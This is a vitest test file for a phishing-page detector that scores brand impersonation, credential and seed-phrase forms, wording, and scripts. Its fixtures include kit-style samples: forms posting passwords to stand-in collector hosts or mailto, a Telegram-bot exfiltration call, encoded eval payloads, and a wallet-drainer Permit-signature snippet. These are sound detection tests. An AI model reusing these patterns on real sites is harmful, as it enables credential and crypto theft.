import { describe, expect, it } from "vitest";
import { brandOfPhrase, brandsNamedIn } from "../brand-names.js";
import { buildContext } from "../context.js";
import { disguisedPassword, fieldKind } from "../fields.js";
import type { PageField } from "../page.js";
import { readHtml } from "../page.js";
import { savedCapture } from "../testing/fixture-scan.js";
import { seedAsk } from "./crypto.js";
import { analyzeContentAgent } from "./index.js";
import { analyzeScripts } from "./scripts.js";
import { normalize, rewardIn, urgencyIn } from "./wording.js";

function content(url: string, body: string, title = "Page") {
  const html = `<!DOCTYPE html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`;
  return analyzeContentAgent(buildContext(savedCapture(url, html), { rankLookup: false }));
}

const codes = (out: { findings: Array<{ finding_id: string }> }) => out.findings.map((f) => f.finding_id);

function field(partial: Partial<PageField>): PageField {
  return {
    tag: "input",
    type: "text",
    name: "",
    id: "",
    autocomplete: "",
    placeholder: "",
    label: "",
    before: "",
    inputmode: "",
    maxlength: null,
    value: "",
    form: 0,
    visible: true,
    ...partial,
  };
}

describe("form fields", () => {
  it.each([
    [{ type: "password", name: "pass" }, "password"],
    [{ name: "login_password", placeholder: "Password" }, "password"],
    [{ autocomplete: "cc-number", name: "x1" }, "card_number"],
    [{ name: "cardNumber" }, "card_number"],
    [{ name: "cc_cvv", type: "password", maxlength: 4 }, "card_cvv"],
    [{ label: "Expiry (MM/YY)", name: "cc_exp" }, "card_expiry"],
    [{ label: "Card PIN", type: "password", maxlength: 4, name: "pin" }, "pin"],
    [{ label: "PIN code", name: "zip", maxlength: 6 }, "personal"],
    [{ label: "Social Security Number", name: "ssn" }, "ssn"],
    [{ tag: "textarea", type: "textarea", placeholder: "Enter your 12-word recovery phrase" }, "seed"],
    [{ name: "otp", placeholder: "6-digit code", maxlength: 6 }, "otp"],
    [{ type: "email", name: "email" }, "email"],
    [{ name: "q", type: "search" }, "other"],
    [{ label: "Kartennummer", name: "kn" }, "card_number"],
    [{ label: "Mot de passe", name: "mdp" }, "password"],
  ] as const)("%o is %s", (partial, kind) => {
    expect(fieldKind(field(partial))).toBe(kind);
  });

  it("sees through disguised password captions", () => {
    for (const caption of ["PASSW0RD *", "Passvvord *", "Pass****rd"]) {
      expect(disguisedPassword(field({ label: caption }))).toBe(true);
      expect(fieldKind(field({ label: caption }))).toBe("password");
    }
    expect(disguisedPassword(field({ label: "Password" }))).toBe(false);
    expect(disguisedPassword(field({ label: "Passport number" }))).toBe(false);
  });

  it("reads labels, placeholders and the caption before a field", () => {
    const page = readHtml(
      '<form><label for="a">Card number</label><input id="a" name="f1"><div>CVV</div><input name="f2"></form>',
      "https://x.example/",
    );
    expect(page.fields.map((f) => fieldKind(f))).toEqual(["card_number", "card_cvv"]);
  });
});

describe("brand claims", () => {
  it("a brand named as the page's identity, on a domain it does not own", () => {
    const out = content(
      "https://secure-login-account.example/",
      '<p class="wm">PayPal</p><form action="login.php"><input type="password" name="p"></form><small>Copyright © 1999-2026 PayPal. All rights reserved.</small>',
      "PayPal: Log in",
    );
    expect(out.signals.claims[0]).toMatchObject({ brand: "PayPal" });
    expect(out.signals.claims[0]?.places).toEqual(expect.arrayContaining(["title", "copyright", "wordmark"]));
    expect(codes(out)).toEqual(expect.arrayContaining(["CON-020", "CON-021"]));
  });

  it("a description that calls the page the way into a brand's account claims it", () => {
    const html = (description: string) =>
      `<!DOCTYPE html><html><head><title>Sample Background</title><meta name="description" content="${description}"></head><body><script>var b='https://collect.example/ionos/compact.php';</script></body></html>`;
    const run = (url: string, description: string) =>
      analyzeContentAgent(buildContext(savedCapture(url, html(description)), { rankLookup: false }));
    const kit = run(
      "https://admin-ad.web.app/",
      "Login to access your IONOS e-mail account and read your e-mail online with IONOS Webmail.",
    );
    expect(kit.signals.claims[0]).toMatchObject({ brand: "IONOS", places: ["description"] });
    expect(kit.findings.find((f) => f.finding_id === "CON-020")?.severity).not.toBe("Low");
    // A description that only names brands, or names two, claims none.
    expect(
      run("https://admin-ad.web.app/", "Compare IONOS hosting plans and prices.").signals.claims,
    ).toEqual([]);
    expect(
      run("https://admin-ad.web.app/", "Log in to access your IONOS or GoDaddy e-mail account.").signals
        .claims,
    ).toEqual([]);
  });

  it("a messenger handle asked as a contact field is no claim; beside a password it still is", () => {
    const gym = content(
      "https://ironpulse-gym.example/join",
      `<h1>สมัครสมาชิก Iron Pulse</h1><form action="/join" method="post">
        <label for="n">ชื่อ</label><input id="n" name="name">
        <label for="l">LINE ID</label><input id="l" name="line">
        <label for="w">WhatsApp number</label><input id="w" name="wa" type="tel">
        <label for="t">Telegram username</label><input id="t" name="tg"></form>`,
      "Iron Pulse Gym",
    );
    expect(gym.signals.claims).toEqual([]);
    expect(codes(gym)).not.toContain("CON-020");

    const kit = content(
      "https://verify-account-center.example/",
      '<form action="next.php"><label for="l">LINE ID</label><input id="l" name="id"><input type="password" name="p" placeholder="Password"></form>',
    );
    expect(kit.signals.claims[0]).toMatchObject({ brand: "LINE", places: ["form"] });
    expect(brandOfPhrase("Contul meu Orange")?.brand.name).toBe("Orange");
    // A name the brand writes in another script (the brand file's `written`).
    const redelivery = content(
      "https://jp-post.kzbrw.example/jp/",
      "<h2>ご不在連絡票</h2><p>お荷物をお届けにあがりましたが、ご不在でした。</p>",
      "日本郵便 - 再配達のお申し込み",
    );
    expect(redelivery.signals.claims[0]).toMatchObject({ brand: "Japan Post", places: ["title"] });
    expect(brandOfPhrase("Mijn Belastingdienst")?.brand.name).toBe("Belastingdienst");
    // A plan's name after the brand's is the brand's page ("Spotify Premium"), a plan name alone nobody's.
    expect(brandOfPhrase("Spotify Premium")?.brand.name).toBe("Spotify");
    expect(brandOfPhrase("Premium Plus")).toBeNull();
    // A one-word name written apart: capitalized parts name it, an ordinary lower-case word does not.
    expect(brandsNamedIn("Log in to Pay Pal").map((h) => h.brand.name)).toContain("PayPal");
    expect(brandsNamedIn("Nuage des Jardins Partagés").map((h) => h.brand.name)).not.toContain("Desjardins");

    // A phone field captioned just "WhatsApp" beside a card deposit is a contact field; beside a code
    // field it is the takeover of that account.
    const deposit = content(
      "https://www.pousada-onca.example/reservas",
      '<form action="/reservas/confirmar"><label for="t">WhatsApp</label><input id="t" name="whatsapp" type="tel"><input name="cc" autocomplete="cc-number"></form>',
      "Reservas",
    );
    expect(deposit.signals.claims).toEqual([]);
    const takeover = content(
      "https://verify-now.example/",
      '<form action="next.php"><label for="t">WhatsApp</label><input id="t" name="phone" type="tel"><input name="code" autocomplete="one-time-code" maxlength="6"></form>',
    );
    expect(takeover.signals.claims[0]).toMatchObject({ brand: "WhatsApp" });
  });

  it("a short name the brand writes in lower case claims as a whole title segment (stc)", () => {
    const out = content(
      "https://mystc-bills.example/ar/pay",
      '<form action="/pay.php"><input name="cc" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc"></form>',
      "stc | سداد الفاتورة",
    );
    expect(out.signals.claims[0]).toMatchObject({ brand: "STC" });
    // Inside a sentence it is a word like any other.
    expect(
      content("https://notes.example/", "<p>x</p>", "Notes on stc and other acronyms").signals.claims,
    ).toEqual([]);
  });

  it("not on the brand's own domain", () => {
    const out = content(
      "https://www.paypal.com/signin",
      '<form><input type="password" name="p"></form>',
      "PayPal: Log in",
    );
    expect(out.signals.claims).toEqual([]);
    expect(codes(out)).not.toContain("CON-021");
  });

  it("not for sign-in-with buttons, payment logos, field concepts or articles about the brand", () => {
    const sso = content(
      "https://app.tallyframe.io/login",
      '<form action="/s"><input type="password" name="p"></form><button>Sign in with Google</button><button>Continue with Apple</button>',
      "Sign in | Tallyframe",
    );
    expect(sso.signals.claims).toEqual([]);
    const strip = content(
      "https://shop.example/",
      '<img alt="Visa"><img alt="Mastercard"><img alt="PayPal"><h1>Oak board</h1><p>€49.00</p>',
      "Oak board",
    );
    expect(strip.signals.claims).toEqual([]);
    const ssn = content(
      "https://cu.example/apply",
      '<form action="/apply"><label>Social Security Number<input name="ssn"></label></form>',
    );
    expect(ssn.signals.claims).toEqual([]);
    const tag = content(
      "https://www.techglimmer.net/tag/microsoft/",
      "<h1>Microsoft</h1><p>News.</p>",
      "Microsoft | TechGlimmer",
    );
    expect(tag.signals.claims).toEqual([]);
  });

  it("not for self-hosted products posting to their own host", () => {
    const owa = content(
      "https://mail.kesslerbau.de/owa/auth/logon.aspx",
      '<form action="/owa/auth.owa" method="post"><div>Outlook</div><input name="username"><input type="password" name="password"></form>',
      "Outlook",
    );
    expect(owa.signals.claims).toEqual([]);
    const cloned = content(
      "https://mail-verify.example/owa/",
      '<form action="https://collector.example/next.php" method="post"><div>Outlook</div><input type="password" name="password"></form>',
      "Outlook",
    );
    expect(cloned.signals.claims[0]?.brand).toBe("Microsoft");
  });

  it("a host spelling a near miss of the claimed brand adds to the claim", () => {
    const out = content(
      "https://metmmasklog.webflow.io/",
      "<p>Connect to the decentralized web.</p>",
      "MetaMask® Łøgin",
    );
    expect(out.signals.claims[0]).toMatchObject({ brand: "MetaMask" });
    expect(out.signals.claims[0]?.places).toEqual(expect.arrayContaining(["title", "address"]));
    const claim = out.findings.find((f) => f.finding_id === "CON-020");
    expect(claim?.severity).toBe("High");
  });
});

describe("what legitimate pages look like", () => {
  it("a payment option named PayPal at a checkout is no PayPal claim", () => {
    const out = content(
      "https://www.voltcrate.com/checkout",
      '<h1>Payment</h1><label><input type="radio" name="m" value="card"> Card</label><label><input type="radio" name="m" value="pp"> PayPal</label><form action="/pay"><label>Card number<input autocomplete="cc-number" name="cc"></label><label>CVC<input autocomplete="cc-csc" name="cvc"></label></form>',
      "Checkout | Voltcrate",
    );
    expect(out.signals.claims).toEqual([]);
    expect(out.findings.find((f) => f.finding_id === "CON-002")?.severity).toBe("Low");
  });

  it("a gift card's number and PIN are no payment card's", () => {
    const out = content(
      "https://www.larkspurbooks.com/gift-cards",
      '<h1>Gift cards</h1><p>Check your gift card balance.</p><form action="/balance"><label>Card number<input name="card"></label><label>PIN<input type="password" name="pin" maxlength="4"></label></form>',
    );
    expect(out.findings.find((f) => f.finding_id === "CON-003")?.severity).toBe("Low");
    expect(out.findings.find((f) => f.finding_id === "CON-002")?.severity).toBe("Low");
  });

  it("a government service on a government suffix is not impersonating the government", () => {
    const out = content(
      "https://www.access.service.gov.uk/login",
      '<p>GOV.UK</p><form action="/login"><input type="email" name="e"><input type="password" name="p"></form>',
      "GOV.UK",
    );
    expect(out.signals.claims).toEqual([]);
    expect(codes(out)).not.toContain("CON-013");
  });

  it("a shop's card checkout on a hosted-commerce platform is its checkout; a password there still counts", () => {
    const card =
      '<h1>Checkout</h1><form action="/checkouts/cn/abc/processing"><label>Card number<input name="number" autocomplete="cc-number"></label><label>Security code<input name="cvc" autocomplete="cc-csc"></label></form>';
    const shop = content("https://bramblewick-candles.myshopify.com/checkouts/cn/abc", card, "Checkout");
    expect(codes(shop)).not.toContain("CON-013");
    expect(shop.findings.find((f) => f.finding_id === "CON-002")?.severity).toBe("Low");
    const offsite = content(
      "https://bramblewick-candles.myshopify.com/checkouts/cn/abc",
      card.replace("/checkouts/cn/abc/processing", "https://collect.example/p"),
      "Checkout",
    );
    expect(codes(offsite)).toContain("CON-013");
    const password = content(
      "https://bramblewick-candles.myshopify.com/account/login",
      '<form action="/account/login"><input type="email" name="e"><input type="password" name="p"></form>',
      "Sign in",
    );
    expect(codes(password)).toContain("CON-013");
    const builder = content("https://bramblewick-candles.weebly.com/checkout", card, "Checkout");
    expect(codes(builder)).toContain("CON-013");
  });

  it("a password on a throwaway host whose chosen name carries lure words is lured (CON-013 Medium)", () => {
    const form = '<form action="/next"><input type="email" name="e"><input type="password" name="p"></form>';
    const severity = (url: string) =>
      content(url, form, "Sign in").findings.find((f) => f.finding_id === "CON-013")?.severity;
    expect(severity("https://mail.verifica-account.weebly.com/")).toBe("Medium");
    expect(severity("https://bramblewick-candles.weebly.com/")).toBe("Low");
  });

  it("a company's name on a domain of its own product is no claim (Valve on steampowered.com)", () => {
    const out = content(
      "https://store.steampowered.com/login/",
      '<form action="/login/dologin/"><input name="username"><input type="password" name="password"></form><footer>© 2026 Valve Corporation. All rights reserved.</footer>',
      "Sign In",
    );
    expect(out.signals.claims).toEqual([]);
    expect(codes(out)).not.toContain("CON-021");
  });

  it("a page that names itself is about a brand, not posing as it", () => {
    const out = content(
      "https://www.swiftpost-parcels.co.uk/",
      "<h1>SwiftPost</h1><p>Parcel redelivery.</p>",
      "SwiftPost – Redelivery",
    );
    expect(out.signals.selfNamed).toBe(true);
  });

  it("packed analytics code alone weighs little", () => {
    const out = content(
      "https://www.bottegaferrante.it/",
      "<h1>Olio</h1><p>Olio extravergine di oliva dal nostro frantoio.</p><script>eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))</script>",
    );
    expect(out.findings.find((f) => f.finding_id === "CON-030")?.severity).toBe("Low");
  });
});

describe("where secrets go", () => {
  it("forms and scripts handing secrets to mail, bots and collectors", () => {
    const mailto = content(
      "https://x.example/",
      '<form action="mailto:drop@example.com"><input type="password" name="p"></form>',
    );
    expect(mailto.findings.find((f) => f.finding_id === "CON-011")?.severity).toBe("Critical");
    const bot = content(
      "https://x.example/",
      '<form><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot123:abc/sendMessage",{method:"POST"})</script>',
    );
    expect(bot.signals.exfil[0]).toMatchObject({ kind: "telegram", where: "script", sensitive: true });
    const contact = content(
      "https://dentist.example/",
      '<form action="https://formspree.io/f/abc"><input name="name"><input type="email" name="email"></form>',
    );
    expect(contact.findings.find((f) => f.finding_id === "CON-011")?.severity).toBe("Low");
  });

  it("a password collected by a site builder's form service", () => {
    const out = content(
      "https://bt-server.webflow.io/",
      '<form><input type="email" name="email"><input name="name" placeholder="Pass****rd"></form><div>Thank you! Your submission has been received!</div>',
    );
    expect(codes(out)).toEqual(expect.arrayContaining(["CON-014", "CON-011", "CON-013"]));
  });
});

describe("scripts", () => {
  it("decodes what eval(atob(…)) hides", () => {
    const payload = Buffer.from('var k=["eth_requestAccounts","setApprovalForAll"];').toString("base64");
    const facts = analyzeScripts([`eval(atob("${payload}"))`], []);
    expect(facts.obfuscation).toContain("eval of decoded code");
    expect(facts.drainApis).toContain("setApprovalForAll");
    expect(facts.connectApis).toContain("eth_requestaccounts");
  });

  it("decodes base64 cut into chunks and joined (atob(parts.join('')))", () => {
    const markup =
      '<h1>Internetbank</h1><form method="post" action="https://collect.example/x.php"><input type="password" name="p"></form>';
    const b64 = Buffer.from(markup).toString("base64");
    const chunks = b64.match(/.{1,16}/g) ?? [];
    const facts = analyzeScripts(
      [
        `var _p=[${chunks.map((c) => `"${c}"`).join(", ")}];setTimeout(function(){app.innerHTML=atob(_p.join(""))},900);`,
      ],
      [],
    );
    expect(facts.decoded).toContain('action="https://collect.example/x.php"');
  });

  it("recognizes anti-analysis tricks", () => {
    const facts = analyzeScripts(
      ["setInterval(function(){debugger;},100); if(navigator.webdriver){location='about:blank'}"],
      ["oncontextmenu=return false"],
    );
    expect(facts.antiAnalysis).toEqual(
      expect.arrayContaining(["debugger trap", "bot or headless-browser check", "right-click disabled"]),
    );
  });

  it("leaves ordinary scripts alone", () => {
    const facts = analyzeScripts(
      [
        'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());',
      ],
      [],
    );
    expect(facts).toMatchObject({ obfuscation: [], antiAnalysis: [], exfil: [], blob: null });
  });
});

describe("wording", () => {
  it.each([
    [
      "Your account has been limited. Confirm your information within 24 hours.",
      ["account restricted", "deadline", "verify now"],
    ],
    [
      "Ihr Konto wurde gesperrt. Bitte bestätigen Sie Ihre Daten innerhalb von 24 Stunden.",
      ["account restricted", "deadline", "verify now"],
    ],
    [
      "Votre compte a été suspendu suite à une activité suspecte.",
      ["account restricted", "unusual activity"],
    ],
    ["Su cuenta ha sido bloqueada. Verifique su identidad.", ["account restricted", "verify now"]],
    ["Your package is on hold: unpaid shipping fee of $1.99.", ["payment due"]],
    ["Fresh bread every morning, baked with local flour.", []],
  ])("%s", (text, kinds) => {
    expect(urgencyIn(normalize(text))).toEqual(expect.arrayContaining(kinds));
    if (kinds.length === 0) expect(urgencyIn(normalize(text))).toEqual([]);
  });

  it("rewards", () => {
    expect(rewardIn(normalize("Congratulations! You have won an iPhone. Claim your prize now."))).toEqual(
      expect.arrayContaining(["congratulations", "prize"]),
    );
  });
});

describe("shops and wallets", () => {
  it("a fake shop needs implausible discounts and other signs together", () => {
    const fake = content(
      "https://luxe-deals.example/",
      '<p>-91%</p><p>$2,450.00 $219.00</p><a href="/checkout">BUY NOW</a><p>-88%</p><p>$980.00 $119.00</p><p>Only 2 left!</p><p>Contact: luxe.support@gmail.com</p>',
    );
    expect(fake.signals.fakeShop).toBe(true);
    const sale = content(
      "https://outlet.example/sale",
      '<p>Up to 70% off.</p><p>€89.00 €29.00</p><button>Add to cart</button><p>We accept Visa and PayPal.</p><a href="/imprint">Imprint</a>',
    );
    expect(sale.signals.fakeShop).toBe(false);
  });

  it("reads local currencies, sale words and transfer-only payment in more languages", () => {
    const outlet = content(
      "https://sko-udsalg.example/",
      "<h1>Op til 80% rabat – kun i dag!</h1><p>Arizona 899 kr. 199 kr.</p><p>Boston 1.199 kr. 249 kr.</p><p>Betaling: kun bankoverførsel.</p>",
    );
    expect(codes(outlet)).toEqual(expect.arrayContaining(["CON-050", "CON-052"]));
    expect(outlet.signals.fakeShop).toBe(false);
    // Two amounts in one sentence are not a was/now pair, nor is a conversion into another currency.
    const club = content(
      "https://swim-club.example/",
      "<p>8 lessons — 4 800 ₽. First trial lesson — 500 ₽, paid on site.</p><p>NOK 2,450 (approx. £182.60)</p>",
    );
    expect(codes(club)).not.toContain("CON-050");
  });

  it("a seed-phrase form and a wallet-connect lure", () => {
    const seed = content(
      "https://wallet-sync.example/",
      '<form><textarea name="m" placeholder="Enter your 12-word recovery phrase"></textarea></form>',
    );
    expect(codes(seed)).toContain("CON-005");
    const lure = content(
      "https://claim.example/",
      "<h1>Season 2 airdrop</h1><button>Connect Wallet</button><p>Check eligibility</p>",
    );
    expect(codes(lure)).toContain("CON-061");
    const article = content(
      "https://news.example/airdrops",
      "<h1>Airdrop season</h1><p>Never connect your wallet to a site you reached from a message.</p>",
    );
    expect(codes(article)).not.toContain("CON-061");
  });

  it("a wallet tutorial naming the recovery phrase above its comment box asks for nothing", () => {
    const paragraph =
      "<p>MetaMask là ví tự quản lý: bạn giữ khóa, không ai có thể khôi phục ví giúp bạn. Vì vậy, bước quan trọng nhất không phải là cài đặt mà là giữ bí mật cụm từ khôi phục bí mật (Secret Recovery Phrase) gồm 12 từ.</p>";
    const comments =
      '<form method="post" action="/comments"><textarea name="comment" placeholder="Viết bình luận…"></textarea><input name="author" placeholder="Tên"><button>Gửi</button></form>';
    const tutorial = content("https://blogtienso.example/huong-dan-metamask", `${paragraph}${comments}`);
    expect(codes(tutorial)).not.toContain("CON-005");
    // A reader's comment quoting a scammer's request ("asked for my seed phrase") is no request either.
    const quoted = content(
      "https://blogtienso.example/huong-dan-metamask",
      `${paragraph}<div class="c"><b>Thu Hà</b><br>Có người tự xưng hỗ trợ đòi seed phrase để mở khóa, may mà không đưa.</div>${comments.replace("/comments", "/wp-comments-post.php").replace('name="comment"', 'name="body"')}`,
    );
    expect(codes(quoted)).not.toContain("CON-005");
    // The same words as the prompt of the field, a heading or a short instruction are a request.
    for (const prompt of [
      "<h2>Secret Recovery Phrase</h2>",
      "<p>Enter your Secret Recovery Phrase to restore your wallet.</p>",
    ]) {
      const kit = content(
        "https://wallet-restore.example/",
        `${prompt}<form><input name="m"><button>Restore</button></form>`,
      );
      expect(codes(kit)).toContain("CON-005");
    }
  });

  it("an exchange's API key and its secret are no wallet private key", () => {
    const tool = content(
      "https://app.ledgerline-tax.example/integrations/exchange",
      `<h1>Connect your exchange account</h1><p>Create a read-only API key (query permissions only, never withdrawals) and paste it here.</p>
      <form method="post" action="/api/integrations"><label for="k">API key</label><input id="k" name="api_key">
      <label for="s">Private key</label><input id="s" name="api_secret" type="password"><button>Connect</button></form>`,
    );
    expect(codes(tool)).not.toContain("CON-005");
    expect(tool.signals.seedPhrase).toBe(false);
    expect(tool.signals.secrets).not.toContain("seed");
    // A wallet's private key stays one: alone, or with wallet wording beside an API key field.
    const alone = content(
      "https://wallet-sync.example/import",
      '<h1>Import wallet</h1><form><label for="p">Private key</label><input id="p" name="pk"><button>Import</button></form>',
    );
    expect(codes(alone)).toContain("CON-005");
    const hex = content(
      "https://wallet-sync.example/import",
      '<form><label for="a">API key</label><input id="a" name="api_key"><label for="p">Private key</label><input id="p" name="pk" placeholder="0x…"></form>',
    );
    expect(codes(hex)).toContain("CON-005");
    const phrase = content(
      "https://wallet-sync.example/restore",
      '<p>Restore with your recovery phrase or your wallet private key.</p><form><label for="a">API key</label><input id="a" name="api_key"><label for="p">Private key</label><input id="p" name="pk"></form>',
    );
    expect(codes(phrase)).toContain("CON-005");
  });

  it("a connect-wallet call to action under mint wording alone stays Low", () => {
    const mint = content(
      "https://www.lanternworks-art.example/mint",
      '<h1>Lanternworks: free mint is live</h1><p>2,000 drawings. One per wallet, you pay only gas.</p><button id="c">Connect wallet</button><p>Never share your seed phrase.</p>',
      "Lanternworks — Mint",
    );
    const lure = mint.findings.find((f) => f.finding_id === "CON-061");
    expect(lure?.severity).toBe("Low");
    // Pressure or a seed request behind it makes it Medium again.
    const pressed = content(
      "https://www.lanternworks-art.example/mint",
      "<h1>Free mint</h1><p>Your wallet will be permanently disabled unless you verify now. Act now, last chance!</p><button>Connect wallet</button>",
    );
    expect(pressed.findings.find((f) => f.finding_id === "CON-061")?.severity).toBe("Medium");
  });
});

describe("generic sign-in lures", () => {
  it("a reassurance that names the lure is none; the lure itself is CON-023", () => {
    const form =
      '<form action="/login" method="post"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>';
    const calm = content(
      "https://files.quillstone.example/login",
      `<h1>Sign in</h1>${form}<p>Quillstone will never ask you to confirm your email password to view a shared file.</p>`,
    );
    expect(codes(calm)).not.toContain("CON-023");
    const lure = content(
      "https://files.quillstone.example/login",
      `<h1>Sign in</h1><p>A document was shared with you. Confirm your email password to view the document.</p>${form}`,
    );
    expect(codes(lure)).toContain("CON-023");
  });
});

describe("wallet secrets", () => {
  it("a reassurance that names the recovery phrase asks for nothing; a request does", () => {
    const form = '<form action="/contact"><input name="name"><textarea name="message"></textarea></form>';
    const calm = content(
      "https://app.cinderstake.xyz/stake",
      `<h1>Stake</h1><p>Staking carries risks. Cinder never asks for your seed phrase or private key.</p><p>No seed phrases to look after.</p>${form}`,
    );
    expect(calm.signals.seedPhrase).toBe(false);
    expect(codes(calm)).not.toContain("CON-005");
    expect(seedAsk("validate your wallet enter your 12-word recovery phrase below. never share it.")).toBe(
      "enter your 12-word",
    );
    expect(seedAsk("we will never ask you for a wallet recovery phrase. paste your seed phrase here")).toBe(
      "seed phrase",
    );
    // A FAQ's question about being asked asks nothing; a question that is the prompt itself still does.
    expect(
      seedAsk("will lido ever ask for my seed phrase? | no. lido never asks for seed phrases."),
    ).toBeNull();
    expect(seedAsk("should i share my recovery phrase with support?")).toBeNull();
    expect(seedAsk("lost access? enter your recovery phrase to restore your wallet")).toBe("recovery phrase");
    expect(seedAsk("forgot your seed phrase? | import your 12-word seed phrase")).toBe("seed phrase");
  });
});

describe("forms served from a site's file directory", () => {
  const form = `<h1>Employee Self-Service</h1><form action="post.php" method="post"><input type="email" name="e"><input type="password" name="p"><button>Sign in</button></form>`;
  it("reports a sign-in under a WordPress plugin folder or .well-known, not the site's own login page", () => {
    const kit = content("https://www.greenvalley-dental.com/wp-content/plugins/wpx/ess/index.php", form);
    expect(kit.findings.find((f) => f.finding_id === "CON-035")?.severity).toBe("Medium");
    const wellKnown = content("https://shop.example-bakery.com/.well-known/pki-validation/login.html", form);
    expect(codes(wellKnown)).toContain("CON-035");
    expect(codes(content("https://www.greenvalley-dental.com/wp-login.php", form))).not.toContain("CON-035");
    expect(codes(content("https://www.greenvalley-dental.com/wp-admin/profile.php", form))).not.toContain(
      "CON-035",
    );
    // A file folder's page that asks for nothing is not reported.
    expect(
      codes(content("https://www.greenvalley-dental.com/wp-content/uploads/menu.html", "<p>Menu</p>")),
    ).not.toContain("CON-035");
  });
});

describe("wallet lures in other languages", () => {
  const DRAIN = `<script>async function go(){const a=await window.ethereum.request({method:"eth_requestAccounts"});
    await window.ethereum.request({method:"eth_signTypedData_v4",params:[a[0],JSON.stringify({primaryType:"Permit"})]});}</script>`;
  it("reads a connect prompt and an airdrop written in Chinese, Japanese or Spanish as an English one", () => {
    for (const [title, body] of [
      ["ZKL 空投领取", "<h1>第二季空投现已开放领取</h1><button>连接钱包</button>"],
      ["エアドロップ受け取り", "<h1>エアドロップ第2弾</h1><button>ウォレットを接続</button>"],
      ["Airdrop temporada 2", "<h1>Reclama tus tokens</h1><button>Conectar billetera</button>"],
    ] as const) {
      const out = content("https://claim-zkl.pages.dev/season2/", `${body}${DRAIN}`, title);
      expect(codes(out), title).toContain("CON-060");
    }
  });

  it("does not read a dApp's own connect button without a lure as a drainer", () => {
    const out = content(
      "https://app.swapline.example/ja/swap",
      `<h1>スワップ</h1><button>ウォレットを接続</button>${DRAIN}`,
      "スワップ",
    );
    expect(codes(out)).not.toContain("CON-060");
  });
});

describe("titles broken apart by comment markup", () => {
  it("reads the title without the comments a kit writes into it, and the brand it names", () => {
    const form = `<form action="/next" method="post"><input type="email" name="e"><input type="password" name="p"></form>`;
    const split = content("https://kplus-verify.weeblysite.com/", form, "P<!-- -->ay<!-- -->Pal - Log in");
    expect(split.signals.claims.map((c) => c.brand)).toEqual(["PayPal"]);
    const plain = content("https://kplus-verify.weeblysite.com/", form, "Account - Log in");
    expect(plain.signals.claims).toEqual([]);
  });
});

describe("dictionary-word brands on pages", () => {
  const BANK = `<header><img src="/logo.svg" alt="Ledger Bank"><h1>Ledger Bank</h1></header>
    <p>Serving our valley since 1903: checking, savings and farm loans.</p>
    <form action="/online-banking/login" method="post"><label>User ID <input name="user"></label>
    <label>Password <input type="password" name="pw"></label><button>Log in</button></form>
    <footer>© 2026 Ledger Bank, N.A. Member FDIC.</footer>`;
  const KIT = `<header><h1>Ledger Live</h1></header>
    <p>Your device must be synchronized. Enter your 24-word recovery phrase to continue.</p>
    <form action="next.php" method="post"><textarea name="phrase" placeholder="Recovery phrase"></textarea>
    <button>Continue</button></form>`;

  it("reads 'Ledger Bank' as a bank's own name: no claim to be Ledger, on its own site or elsewhere", () => {
    expect(brandOfPhrase("Ledger Bank")).toBeNull();
    expect(brandOfPhrase("© 2026 Ledger Bank, N.A.")).toBeNull();
    for (const url of ["https://ledgerbank.com/", "https://www.ledgerbank.com/online-banking"]) {
      const out = content(url, BANK, "Ledger Bank | Personal & Business Banking");
      expect(out.signals.claims).toEqual([]);
      expect(codes(out)).not.toEqual(expect.arrayContaining(["CON-020"]));
      expect(codes(out)).not.toEqual(expect.arrayContaining(["CON-021"]));
    }
  });

  it("still finds Ledger claimed by a seed-phrase kit, with or without the name in the address", () => {
    expect(brandOfPhrase("Ledger Live")?.brand.name).toBe("Ledger");
    for (const url of ["https://ledger-live-sync.com/", "https://secure-sync-portal.top/"]) {
      const out = content(url, KIT, "Ledger Live - Synchronize");
      expect(out.signals.claims.map((c) => c.brand)).toEqual(["Ledger"]);
      expect(codes(out)).toContain("CON-005");
    }
  });
});

describe("cloned content (CON-025)", () => {
  const links = Array.from(
    { length: 6 },
    (_, i) => `<a href="https://www.theguardian.com/world/2026/nov/27/story-${i}">Story ${i}</a>`,
  ).join("\n");
  const head = `<link rel="canonical" href="https://www.theguardian.com/international">
    <meta property="og:url" content="https://www.theguardian.com/international">`;
  const mirror = (
    url: string,
    extraHead = head,
    title = "News, sport and opinion from the Guardian's global edition",
  ) =>
    analyzeContentAgent(
      buildContext(
        savedCapture(
          url,
          `<!DOCTYPE html><html lang="en"><head><title>${title}</title>${extraHead}</head><body><h1>Headlines</h1>${links}</body></html>`,
        ),
        { rankLookup: true },
      ),
    );

  it("names the copied site and the host serving it, on a throwaway host", () => {
    for (const url of ["https://quiet-river-7f3a.workers.dev/", "https://news-today-24.top/"]) {
      const finding = mirror(url).findings.find((f) => f.finding_id === "CON-025");
      expect(finding?.severity).toBe("Medium");
      expect(finding?.details).toContain(`Content of theguardian.com served from ${new URL(url).host}`);
      expect(finding?.details).toContain("canonical and og:url");
    }
  });

  it("a verbatim copy with relative links calls itself by the site's whole name (The Guardian)", () => {
    const relative = (url: string) =>
      analyzeContentAgent(
        buildContext(
          savedCapture(
            url,
            `<!DOCTYPE html><html lang="en"><head><title>News, sport and opinion from the Guardian's global edition | The Guardian</title>${head}</head><body><h1>Headlines</h1><a href="/world">World</a></body></html>`,
          ),
          { rankLookup: true },
        ),
      );
    const finding = relative("https://brisk-falcon-7x2.pages.dev/international").findings.find(
      (f) => f.finding_id === "CON-025",
    );
    expect(finding?.details).toContain("calls itself by its name (title)");
  });

  it("says nothing on the site's own domain, on a cache, or when the page does not claim the site's address", () => {
    expect(codes(mirror("https://www.theguardian.com/international"))).not.toContain("CON-025");
    expect(
      codes(mirror("https://www-theguardian-com.cdn.ampproject.org/c/s/www.theguardian.com/")),
    ).not.toContain("CON-025");
    expect(codes(mirror("https://quiet-river-7f3a.workers.dev/", ""))).not.toContain("CON-025");
  });

  it("leaves a page that names its own site alone (a syndication partner)", () => {
    const out = mirror("https://valleydispatch.com/world", head, "World news | Valley Dispatch");
    expect(codes(out)).not.toContain("CON-025");
  });

  it("ignores a canonical address on a site the product does not know", () => {
    const small = `<link rel="canonical" href="https://www.example-village-bakery.com/">`;
    expect(codes(mirror("https://quiet-river-7f3a.workers.dev/", small))).not.toContain("CON-025");
  });
});
